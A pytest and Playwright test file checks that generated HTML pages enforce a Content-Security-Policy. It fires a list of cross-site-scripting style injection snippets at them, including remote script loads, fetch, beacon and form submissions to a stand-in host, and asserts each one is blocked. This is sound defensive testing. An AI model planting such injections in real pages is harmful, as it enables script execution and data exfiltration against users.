"""What is in a page can't act: its Content-Security-Policy, and that it asks for nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from kinds import EVERY, source
from looking import Looker
from playwright.sync_api import Error, Page

# Its tests together take long.
pytestmark = pytest.mark.slow

# Ways by which a text that became markup would act: each sets `acted`, or asks the address outside.
ATTEMPTS = {
    "script": "const s = document.createElement('script'); s.textContent = 'globalThis.acted = 1';"
    "document.body.append(s);",
    "handler": "const i = document.createElement('img'); i.setAttribute('onerror', 'globalThis.acted = 1');"
    "i.src = 'data:image/png,x'; document.body.append(i);",
    "event": "const b = document.createElement('button'); b.setAttribute('onclick', 'globalThis.acted = 1');"
    "document.body.append(b); b.click();",
    "link": "const a = document.createElement('a'); a.href = 'javascript:globalThis.acted = 1';"
    "document.body.append(a); a.click();",
    "picture": "const i = new Image(); i.onload = () => { globalThis.acted = 1; };"
    "i.src = 'http://outside.invalid/p.png'; document.body.append(i);",
    "remote script": "const s = document.createElement('script'); s.src = 'http://outside.invalid/s.js';"
    "document.body.append(s);",
    "request": "fetch('http://outside.invalid/f').then(() => { globalThis.acted = 1; }, () => {});",
    "beacon": "navigator.sendBeacon('http://outside.invalid/b', 'x');",
    "frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.acted = 1</script>';"
    "document.body.append(f);",
    "style": "const s = document.createElement('style'); s.textContent = 'body { --ran: 1 }';"
    "document.body.append(s);"
    "if (getComputedStyle(document.body).getPropertyValue('--ran')) globalThis.acted = 1;",
    "attribute": "const p = document.createElement('p'); p.setAttribute('style', '--ran: 1');"
    "document.body.append(p); if (getComputedStyle(p).getPropertyValue('--ran')) globalThis.acted = 1;",
    "form": "const f = document.createElement('form'); f.action = 'http://outside.invalid/';"
    "document.body.append(f); f.submit();",
    "base": "const b = document.createElement('base'); b.href = 'http://outside.invalid/';"
    "document.head.append(b); if (document.baseURI.startsWith('http')) globalThis.acted = 1;",
    "code from text": "setTimeout('globalThis.acted = 1');",
}
KINDS = ("student diagnosed", "teacher passing", "class small", "author weak", "demonstration telling")


SAID = "Content Security Policy"


def attempt(page: Page, how: str) -> None:
    """Do what a part of the page would do; the way in is not bound by the policy."""
    page.evaluate(f"() => {{ setTimeout(() => {{ {ATTEMPTS[how]} }}); }}")


def until(page: Page, what: Callable[[], bool]) -> bool:
    """Whether something comes true; where it does not, that is known after ten seconds."""
    for _ in range(500):
        if what():
            return True
        page.wait_for_timeout(20)
    return False


def has_acted(page: Page) -> bool:
    try:
        return page.evaluate("() => globalThis.acted") == 1
    except Error:  # the page is being left
        return False


@pytest.mark.parametrize("kind", KINDS)
def test_the_policy_stops_what_is_planted_in_a_page(looker: Looker, kind: str) -> None:
    page = looker.page()
    path = looker.path(source(kind))
    for how in ATTEMPTS:
        page.goto(path.as_uri())
        assert looker.noticed == []
        attempt(page, how)
        # The browser says so, and nothing went out.
        assert until(page, lambda: any(SAID in what for what in looker.noticed)), how
        assert until(page, lambda: all(SAID in what for what in looker.noticed)), how
        assert not has_acted(page), how
        looker.noticed.clear()


def test_without_a_policy_the_same_attempts_succeed(looker: Looker) -> None:
    # Else the test above could not fail.
    path = looker.path("<!doctype html><html lang=en><head><title>t</title></head><body></body></html>")
    for how in ATTEMPTS:
        page = looker.page()
        page.goto(path.as_uri())
        attempt(page, how)

        def succeeded(page: Page = page) -> bool:
            return any(what.startswith("request:") for what in looker.noticed) or has_acted(page)

        reached = until(page, succeeded)
        looker.close()
        looker.noticed.clear()
        assert reached, how


@EVERY
def test_the_policy_comes_first_and_a_page_is_used_without_a_request_or_a_message(
    looker: Looker, kind: str
) -> None:
    page = looker.open(source(kind))
    head = page.evaluate("() => [...document.head.children].map((e) => [e.localName, e.httpEquiv ?? ''])")
    assert head[0] == ["meta", ""]  # the encoding
    assert head[1] == ["meta", "Content-Security-Policy"]
    page.evaluate("() => document.querySelectorAll('summary, button').forEach((one) => one.click())")
    page.mouse.wheel(0, 5_000)
    page.wait_for_timeout(50)
    for link in page.locator("a[href^='#']").all()[:5]:
        link.focus()
        page.keyboard.press("Enter")
    assert page.evaluate("() => performance.getEntriesByType('resource').length") == 0
